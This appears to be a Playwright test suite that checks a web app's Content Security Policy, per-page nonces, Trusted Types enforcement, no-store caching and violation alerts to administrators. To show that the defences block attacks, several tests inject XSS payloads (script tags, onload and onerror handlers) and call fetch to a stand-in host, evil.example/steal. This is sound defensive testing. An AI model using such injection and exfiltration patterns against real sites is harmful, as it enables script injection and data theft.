import { expect, test } from '../fixtures';
import { published } from '../seed';

test('the policy forbids inline scripts, eval and everything from elsewhere', async ({ page }) => {
  const response = await page.request.get('/');

  const policy = response.headers()['content-security-policy'] ?? '';
  expect(policy).toMatch(/default-src 'none'/);
  expect(policy).toMatch(/script-src 'nonce-[^']+' 'strict-dynamic' 'wasm-unsafe-eval'/);
  expect(policy).not.toMatch(/'unsafe-inline'|'unsafe-eval'|https?:|\*/);
});

test('no two pages share a nonce', async ({ page }) => {
  const nonce = async () => {
    const response = await page.request.get('/');
    return /'nonce-([^']+)'/.exec(response.headers()['content-security-policy'] ?? '')?.[1];
  };

  const [first, second] = [await nonce(), await nonce()];

  expect(first).toMatch(/^\S{22,}$/);
  expect(second).not.toBe(first);
});

test('a script that got into the HTML does not run', async ({ faults, page, articlePage }) => {
  faults.expect(/script-src/);
  await page.route(`**/articles/${published}`, async (route) => {
    const response = await route.fetch();
    const hostile = '<script>window.stolen = true</script><img src="/favicon.svg" alt="" onload="window.stolen = true">';
    const body = (await response.text()).replace('</footer>', `</footer>${hostile}`);
    await route.fulfill({ response, body });
  });

  await articlePage.open(published);

  await expect.poll(() => faults.seen('script-src-elem')).toBeGreaterThan(0);
  await expect.poll(() => faults.seen('script-src-attr')).toBeGreaterThan(0);
  expect(await page.evaluate(() => 'stolen' in window)).toBe(false);
});

test('a script that was put into the page does not run', async ({ faults, page, articlePage }) => {
  faults.expect(/TrustedScript|trusted-types|script-src/);
  await articlePage.open(published);

  await page.evaluate(() => {
    const script = document.createElement('script');
    script.append(new Text('window.stolen = true'));
    document.body.append(script);
  });

  await expect.poll(() => faults.seen('TrustedScript')).toBeGreaterThan(0);
  expect(await page.evaluate(() => 'stolen' in window)).toBe(false);
});

test('a handler that was put into the page is refused', async ({ faults, page, articlePage }) => {
  faults.expect(/TrustedScript|trusted-types/);
  await articlePage.open(published);

  const outcome = await page.evaluate(() => {
    try {
      document.body.setAttribute('onclick', 'window.stolen = true');
      document.body.click();
      return 'accepted';
    } catch (error) {
      return error instanceof TypeError ? 'refused' : String(error);
    }
  });

  expect(outcome).toBe('refused');
  expect(await page.evaluate(() => 'stolen' in window)).toBe(false);
});

test('HTML that could run scripts does not get into the page', async ({ faults, page, articlePage }) => {
  faults.expect(/TrustedHTML|trusted-types/);
  await articlePage.open(published);

  const outcome = await page.evaluate(() => {
    const target = document.createElement('div');
    document.body.append(target);
    try {
      target.innerHTML = '<img src="data:," onerror="window.stolen = true">';
      return target.innerHTML;
    } catch (error) {
      return error instanceof TypeError ? 'refused' : String(error);
    }
  });

  expect(outcome).toBe('refused');
  expect(await page.evaluate(() => 'stolen' in window)).toBe(false);
});

test('nothing is sent elsewhere', async ({ faults, page, articlePage }) => {
  faults.expect(/Content.Security.Policy/);
  await articlePage.open(published);

  const outcome = await page.evaluate(() =>
    fetch('https://evil.example/steal').then(
      () => 'sent',
      () => 'stopped',
    ),
  );

  expect(outcome).toBe('stopped');
  await expect.poll(() => faults.seen('connect-src')).toBeGreaterThan(0);
});

test('pages of who is signed in are kept nowhere', async ({ page, signedInAs }) => {
  await signedInAs('ada');

  const response = await page.request.get('/');

  expect(response.headers()['cache-control']).toContain('no-store');
});

test('administrators read what a browser has stopped', async ({ faults, page, articlePage, colleague }) => {
  faults.expect(/Content.Security.Policy/);
  const priya = await colleague('priya');
  await articlePage.open(published);

  await page.evaluate(() => fetch('https://evil.example/steal?what=secret').catch(() => undefined));

  await expect
    .poll(async () => JSON.stringify(await priya.ask('alerts/list', {})))
    .toContain('connect-src: https://evil.example');
  const kept = JSON.stringify(await priya.ask('alerts/list', {}));
  expect(kept).toContain(`on /articles/${published}`);
  expect(kept).not.toContain('secret');
});
